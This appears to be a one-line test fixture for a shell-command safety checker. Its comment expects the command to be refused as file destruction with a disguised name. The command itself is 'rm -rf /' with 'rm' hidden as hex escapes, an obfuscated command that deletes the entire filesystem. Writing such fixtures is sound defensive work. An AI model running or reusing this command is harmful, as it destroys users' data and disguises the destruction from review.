# nacre: refused file.destroy code.hidden-name
$'\x72\x6d' -rf /
